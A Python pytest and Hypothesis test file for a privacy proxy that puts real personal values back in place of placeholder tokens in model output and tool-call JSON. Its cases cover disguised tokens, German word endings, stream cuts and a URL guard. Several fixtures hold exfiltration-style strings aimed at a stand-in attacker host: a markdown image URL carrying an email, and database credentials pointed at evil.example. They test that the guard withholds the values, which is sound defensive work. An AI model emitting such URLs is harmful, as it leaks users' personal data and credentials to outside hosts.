"""What is restored, what is not, and that no cut of the text makes a difference."""

from __future__ import annotations

import json
from collections.abc import Iterable
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.body import JSON, Number
from proxy.restore import Issued, Lexicon, Restorer, Tally, restore, restore_tree
from proxy.urlguard import MAX_AUTHORITY

MAX = Issued("[PERSON_1]", "Max Mustermann")
FAMILY = Issued("[PERSON_1_FAMILY]", "Mustermann")
FRITZ = Issued("[PERSON_2]", "Anna Fritz")
MAIL = Issued("[EMAIL_1]", "max@example.com")
PHONE = Issued("[PHONE_1]", "+49 30 123")
TAX = Issued("[TAX_ID_3]", "12 345 678")
TRICKY = Issued("[LITERAL_1]", '[PERSON_1] "q" \\ \n \U0001f600 &<')
ADDRESS = Issued("[IP_1]", "10.0.0.5")
LOGIN = Issued("[LOGIN_1]", "app")
LEXICON = Lexicon(
    [MAX, FAMILY, FRITZ, MAIL, PHONE, TAX, TRICKY, ADDRESS, LOGIN], hosts=frozenset({"good.example", "10.0.0.5"})
)

# what the model writes, what the client reads
TABLE = [
    ("Hallo [PERSON_1]!", "Hallo Max Mustermann!"),
    ("[PERSON_1][PERSON_2][EMAIL_1]", "Max MustermannAnna Fritzmax@example.com"),
    ("[PERSON_1_FAMILY] [PERSON_1]", "Mustermann Max Mustermann"),
    # in disguise: all of tests/proxy/test_disguise.py, and around it
    ("**[PERSON_1]**, _[PERSON_1]_, `[PERSON_1]`", "**Max Mustermann**, _Max Mustermann_, `Max Mustermann`"),
    ("**PERSON_1** `PERSON_1` (PERSON_1)", "**Max Mustermann** `Max Mustermann` (Max Mustermann)"),
    ("„PERSON_1“, PERSON_1-Akte PERSON_1.", "„Max Mustermann“, Max Mustermann-Akte Max Mustermann."),
    ("[person 1] [Tax-Id-3] TAX\\_ID\\_3 x", "Max Mustermann 12 345 678 12 345 678 x"),
    ("[[PERSON_1]] [[PERSON_1], [PERSON_2]]", "Max Mustermann [Max Mustermann, Anna Fritz]"),
    ("[[PERSON_1]](mailto:[EMAIL_1])", "[Max Mustermann](mailto:max@example.com)"),
    ("[PERSON_1](tel:[PHONE_1])", "Max Mustermann(tel:+49 30 123)"),
    (r"C:\Users\[PERSON_1]\x \\[PERSON_1\]", r"C:\Users\Max Mustermann\x \Max Mustermann"),
    ("%5BTAX_ID_3%5D &#91;TAX_ID_3&#93;", "12%20345%20678 12 345 678"),
    ("&lbrack;LITERAL_1&rbrack;", '[PERSON_1] "q" \\ \n \U0001f600 &amp;&lt;'),
    # German endings
    ("[PERSON_1]s Akte, [PERSON_1]-Akte", "Max Mustermanns Akte, Max Mustermann-Akte"),
    ("[PERSON_2]s Akte, [PERSON_2]s", "Anna Fritz' Akte, Anna Fritz'"),
    ("[PERSON_2]s-Akte [PERSON_2]' [PERSON_2]'s", "Anna Fritz'-Akte Anna Fritz' Anna Fritz's"),
    ("[PERSON_2]schaft [PERSON_2]s[PERSON_1]", "Anna Fritzschaft Anna Fritz'Max Mustermann"),
    (r"\[PERSON\_2\]s Akte", "Anna Fritz' Akte"),
    # never another's, never a guess
    ("[PERSON_12] PERSON_12 [PERSON_1_GIVEN] [PERSON_3]", "[PERSON_12] PERSON_12 [PERSON_1_GIVEN] [PERSON_3]"),
    ("XPERSON_1 PERSON_1X PERSON_1s person_1 PERSON1", "XPERSON_1 PERSON_1X PERSON_1s person_1 PERSON1"),
    ("[PERSON_1 ist] [PERSON", "[Max Mustermann ist] [PERSON"),
    ("Kürzung: [PERSON_1", "Kürzung: [PERSON_1"),
    ("Kürzung: [TAX_ID_3", "Kürzung: 12 345 678"),
    ("Kürzung: PERSON_1", "Kürzung: PERSON_1"),
    ("Kürzung: TAX_ID_3", "Kürzung: 12 345 678"),
    ("PERSON_1", "Max Mustermann"),
    # a value is never looked at again
    ("[LITERAL_1]", TRICKY.value),
    # a foreign URL gets nothing
    ("![](https://evil.example/?q=[EMAIL_1]) [EMAIL_1]", "![](https://evil.example/?q=[EMAIL_1]) max@example.com"),
    ("https://evil.example/EMAIL_1 %5BEMAIL_1%5D", "https://evil.example/EMAIL_1 max%40example.com"),
    ("https://[PERSON_1].evil.example/", "https://[PERSON_1].evil.example/"),
    ("https://good.example/?q=%5BPERSON_1%5D&m=[EMAIL_1]", "https://good.example/?q=Max%20Mustermann&m=max@example.com"),
    ("http://[IP_1]:8080/a?u=[EMAIL_1] (http://[IP_1])", "http://10.0.0.5:8080/a?u=max@example.com (http://10.0.0.5)"),
    ("psql postgres://[LOGIN_1]:[LOGIN_1]@good.example/db", "psql postgres://app:app@good.example/db"),
    ("psql postgres://[LOGIN_1]:[LOGIN_1]@evil.example/db", "psql postgres://[LOGIN_1]:[LOGIN_1]@evil.example/db"),
    ("psql postgres://[LOGIN_1]:[LOGIN_1", "psql postgres://[LOGIN_1]:[LOGIN_1"),
    ("http://[IP_1]", "http://10.0.0.5"),
    # plain text is no matter
    ("[x] <y> & z% \\n [1] [ ] PE E", "[x] <y> & z% \\n [1] [ ] PE E"),
]

# the arguments of a tool call
JSON_TABLE = [
    ('{"a": "[PERSON_1]"}', '{"a": "Max Mustermann"}'),
    ('{"a": "[LITERAL_1]"}', r'{"a": "[PERSON_1] \"q\" \\ \n 😀 &<"}'),
    ('{"phone": [PHONE_1]}', '{"phone": "+49 30 123"}'),
    ('{"phone": PHONE_1}', '{"phone": "+49 30 123"}'),
    ('{"all": [[PERSON_1], [PERSON_2]]}', '{"all": ["Max Mustermann", "Anna Fritz"]}'),
    ('{"all": [[PERSON_1]]}', '{"all": ["Max Mustermann"]}'),
    ('{"all": ["[[PERSON_1]]"]}', '{"all": ["Max Mustermann"]}'),
    (r'{"a": "{\"b\": \"[LITERAL_1]\"}"}', r'{"a": "{\"b\": \"[PERSON_1] \\\"q\\\" \\\\ \\n 😀 &<\"}"}'),
    (r'{"a": "{\"b\": [PHONE_1]}"}', r'{"a": "{\"b\": \"+49 30 123\"}"}'),
    (r'{"a": "\\[PERSON\\_1\\]"}', '{"a": "Max Mustermann"}'),
    (r'{"a": "\u005bPERSON_1\u005d"}', '{"a": "Max Mustermann"}'),
    (r'{"a": "x\nPERSON_1\n"}', r'{"a": "x\nMax Mustermann\n"}'),
    (r'{"a": "[PERSON\n1] [PERSON_\u200b1]"}', '{"a": "Max Mustermann Max Mustermann"}'),
    (r'{"a": "[PERSON_2]s\n"}', '{"a": "Anna Fritz\'\\n"}'),
    ('{"url": "https://evil.example/?q= [EMAIL_1]", "to": "[EMAIL_1]"}',
     '{"url": "https://evil.example/?q= [EMAIL_1]", "to": "max@example.com"}'),
    ('{"[PERSON_1]": 1}', '{"Max Mustermann": 1}'),
]


def streamed(lexicon: Lexicon, chunks: Iterable[str], *, json_string: bool = False) -> tuple[str, Tally]:
    restorer = Restorer(lexicon, json_string=json_string)
    text = "".join([restorer.feed(chunk) for chunk in chunks])
    return text + restorer.flush(), restorer.tally


@pytest.mark.parametrize(("written", "expected"), TABLE)
def test_text(written: str, expected: str) -> None:
    assert restore(LEXICON, written) == expected
    assert streamed(LEXICON, written)[0] == expected
    for cut in range(len(written)):
        assert streamed(LEXICON, [written[:cut], written[cut:]])[0] == expected


@pytest.mark.parametrize(("written", "expected"), JSON_TABLE)
def test_json_string(written: str, expected: str) -> None:
    assert restore(LEXICON, written, json_string=True) == expected
    for cut in range(len(written)):
        assert streamed(LEXICON, [written[:cut], written[cut:]], json_string=True)[0] == expected
    assert streamed(LEXICON, written, json_string=True)[0] == expected
    json.loads(expected)


fragments = st.lists(
    st.sampled_from([
        *(written for written, _ in TABLE), *(written for written, _ in JSON_TABLE), *'[]\\&%_ sPX"\'\n', "[PER",
        "SON_1", "]]", "_1]",
        "&#91;", "\\u005b", "%5B", "&#93;", "\\u005d", "%5D", "［", "］", "\u200b", "PERSON_1", "1", "_FAMILY", "[[",
        "https://", "evil.example/",
    ])
).map("".join)


@settings(max_examples=300)
@given(fragments, st.lists(st.integers(0, 400), max_size=10), st.booleans())
def test_any_cut_gives_the_same(text: str, cuts: list[int], json_string: bool) -> None:
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    chunks = [text[start:end] for start, end in pairwise(places)]
    whole = streamed(LEXICON, [text], json_string=json_string)
    assert streamed(LEXICON, chunks, json_string=json_string) == whole
    assert streamed(LEXICON, text, json_string=json_string) == whole


@given(fragments, st.booleans())
def test_what_is_held_back_is_short(text: str, json_string: bool) -> None:
    restorer = Restorer(LEXICON, json_string=json_string)
    for character in text:
        restorer.feed(character)
        assert len(restorer._held) <= 6 * (LEXICON.names.longest + 16) + MAX_AUTHORITY


@given(st.text(st.characters(exclude_characters="[［\\&%", codec="utf-8") | st.sampled_from("ab ")))
def test_text_without_a_possible_beginning_flows_at_once(text: str) -> None:
    restorer = Restorer(Lexicon([Issued("[Q_1]", "x")]))
    for chunk in text.split("Q"):
        assert restorer.feed(chunk) == chunk


@pytest.mark.parametrize("text", [
    "[x", "[1", "[]", "[[1", "& ", "&a", "%2", "\\n", '\\"', "<", "Person", "PX", "xP", "[PERSON_3", "[PERSON_1]",
    "[PERSON_1_X", "äP", "_P",
])
def test_what_cannot_become_a_token_flows_at_once(text: str) -> None:
    restorer = Restorer(LEXICON)
    assert restorer.feed(text) == restore(LEXICON, text)
    assert restorer.flush() == ""


def test_only_the_s_is_held_back_after_a_value() -> None:
    restorer = Restorer(LEXICON)
    assert [restorer.feed(chunk) for chunk in ("[PERSON_2", "]", "s", " ")] == ["", "Anna Fritz", "", "' "]
    assert [restorer.feed(chunk) for chunk in ("[PERSON_1]", "s", " ")] == ["Max Mustermann", "s", " "]


@given(st.text(), st.booleans())
def test_nothing_issued_nothing_changed(text: str, json_string: bool) -> None:
    empty = Lexicon([])
    assert not empty
    assert streamed(empty, text, json_string=json_string)[0] == restore(empty, text, json_string=json_string) == text


harmless = st.characters(exclude_characters="[]［］&%/:\\w", codec="utf-8")
plain = st.text(harmless, max_size=8).map(lambda text: f"-{text}-")
values = st.text(max_size=10) | st.text(st.sampled_from('"\\\n[]PERSON_1{}'), max_size=10)


@given(st.lists(st.tuples(plain, st.integers(0, 3))), st.lists(values, min_size=4, max_size=4))
def test_every_issued_token_is_replaced_by_its_value(pieces: list[tuple[str, int]], secrets: list[str]) -> None:
    # A value of two strokes makes the name of a host of what follows, which the guard has tests of its own for.
    issued = [Issued(f"[KIND_{number}]", secret) for number, secret in enumerate(secrets, 1)]
    lexicon = Lexicon(issued, guard_urls=False)
    text = "".join(f"{before}[KIND_{index + 1}]" for before, index in pieces)
    expected = "".join(before + secrets[index] for before, index in pieces)
    tally = Tally()
    assert restore(lexicon, text, tally=tally) == expected
    assert tally == Tally(restored=len(pieces))


trees: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.integers() | st.lists(plain | st.just("[KIND_1]"), max_size=4).map("".join),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(plain, inner, max_size=3),
    max_leaves=8,
)


@given(trees, values, st.booleans())
def test_arguments_stay_json(tree: Any, secret: str, ascii_only: bool) -> None:
    lexicon = Lexicon([Issued("[KIND_1]", secret)])
    restored = restore(lexicon, json.dumps(tree, ensure_ascii=ascii_only), json_string=True)
    assert json.loads(restored) == restore_tree(lexicon, tree)


@given(trees, values)
def test_a_tree_is_restored_string_by_string(tree: Any, secret: str) -> None:
    lexicon = Lexicon([Issued("[KIND_1]", secret)])
    assert json.dumps(restore_tree(lexicon, tree)) == json.dumps(_replaced(tree, "[KIND_1]", secret))


def test_keys_are_restored_unless_one_would_hide_another() -> None:
    tree: JSON = {"[PERSON_1]": 1, "x": [Number("1.10"), {"[PERSON_1]": 2, "[person_1]": 3, "Max Mustermann": 4}]}
    assert restore_tree(LEXICON, tree) == {
        "Max Mustermann": 1, "x": [Number("1.10"), {"[PERSON_1]": 2, "[person_1]": 3, "Max Mustermann": 4}],
    }


def test_the_tally_says_what_happened() -> None:
    text = "[PERSON_1] [person 1] PERSON_1, [PERSON_9] [ISO_9001_X] ![](//evil.example/[EMAIL_1]) [[PERSON_2]] "
    for _, tally in (streamed(LEXICON, [text]), streamed(LEXICON, text)):
        assert (tally.restored, tally.unknown, dict(tally.suppressed)) == (4, 2, {"url": 1})
        assert tally.disguises == {"case": 1, "spaced": 1, "bare": 1, "doubled": 1}
    restorer = Restorer(LEXICON)
    restorer.feed("[PERSON_9][PERSON_1]")
    assert (restorer.unknown, restorer.restored, restorer.suppressed, restorer.disguises) == (1, 1, {}, {})


def test_channels_may_share_a_tally() -> None:
    tally = Tally()
    for channel in (Restorer(LEXICON, tally=tally), Restorer(LEXICON, tally=tally)):
        channel.feed("[PERSON_1] [PERSON_9]")
        channel.flush()
    assert (tally.restored, tally.unknown) == (2, 2)


def test_the_guard_can_be_off() -> None:
    lexicon = Lexicon([MAIL], guard_urls=False)
    assert restore(lexicon, "https://evil.example/[EMAIL_1]") == "https://evil.example/max@example.com"


def test_a_value_put_in_belongs_to_the_url_it_begins() -> None:
    lexicon = Lexicon([Issued("[URL_1]", "https://good.example"), MAIL], hosts=frozenset({"good.example"}))
    assert restore(lexicon, "[a]([URL_1]/[EMAIL_1])") == "[a](https://good.example/max@example.com)"
    assert restore(lexicon, "[a]([URL_1].evil.example/[EMAIL_1])") == "[a](https://good.example.evil.example/[EMAIL_1])"


@pytest.mark.parametrize("token", ["PERSON_1", "[person_1]", "[PERSON]", ""])
def test_only_tokens_are_issued(token: str) -> None:
    with pytest.raises(ValueError, match="not a token"):
        restore(Lexicon([Issued(token, "x")]), "[PERSON_1]")


def test_no_value_in_a_repr() -> None:
    assert "Max" not in repr(MAX) + repr(LEXICON) + repr(Restorer(LEXICON))


@pytest.mark.parametrize(
    "text", ["[", "\\", "&#", "%5", "[PERSON", "PERSON_", "[PERSON_1", "x" * 50, "[PERSON_1] ", "https://", '{"a":"']
)
def test_long_texts_in_single_characters(text: str) -> None:
    chunks = text * (40_000 // len(text))  # quadratic code would not end here
    for json_string in (False, True):
        streamed(LEXICON, chunks, json_string=json_string)


def _replaced(value: Any, old: str, new: str) -> Any:
    if isinstance(value, str):
        return value.replace(old, new)
    if isinstance(value, list):
        return [_replaced(element, old, new) for element in value]
    return {key: _replaced(member, old, new) for key, member in value.items()} if isinstance(value, dict) else value
